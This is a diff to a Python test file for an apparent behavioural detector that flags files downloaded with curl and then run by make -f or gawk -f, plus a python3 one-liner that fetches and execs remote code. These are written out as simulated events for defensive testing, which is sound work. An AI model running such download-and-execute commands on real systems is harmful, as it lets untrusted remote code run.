@@ -833,6 +833,17 @@ def test_history_scripts_and_implants(fire: Any, ev: Any) -> None:
     assert fire(ev.exec(25, "/usr/bin/curl", "curl", "-o", "i.sh", "http://x"),
                 ev.open(25, "/workspace/i.sh", kind="write", comm="curl"),
                 ev.exec(26, "/bin/bash", "bash", "other.sh")) == []
+    # a downloaded Makefile or awk program, the file of -f (make's recipes are shell commands)
+    for argv in (("make", "-s", "-f", ".cache/mk"), ("make", "--file=.cache/mk"), ("make", "-f.cache/mk"),
+                 ("gawk", "-f", "mk", "data.txt"), ("make", "--makefile", "mk", "all")):
+        got = fire(ev.exec(27, "/usr/bin/curl", "curl", "-sSfo", ".cache/mk", "http://x"),
+                   ev.open(27, "/workspace/.cache/mk", kind="write", comm="curl"),
+                   ev.exec(28, f"/usr/bin/{argv[0]}", *argv))
+        assert got == ["downloaded_script_run"], argv
+    for argv in (("make", "mk"), ("make", "-C", "mk"), ("awk", "{print}", "mk"), ("make", "-f", "Makefile")):
+        assert fire(ev.exec(27, "/usr/bin/curl", "curl", "-sSfo", ".cache/mk", "http://x"),
+                    ev.open(27, "/workspace/.cache/mk", kind="write", comm="curl"),
+                    ev.exec(28, f"/usr/bin/{argv[0]}", *argv)) == [], argv
     assert fire(ev.exec(22, "/usr/bin/python3", "python3", "-c",
                         "import urllib.request as u; exec(u.urlopen('http://x/p').read())")) == [
         "interpreter_runs_downloaded_code"]
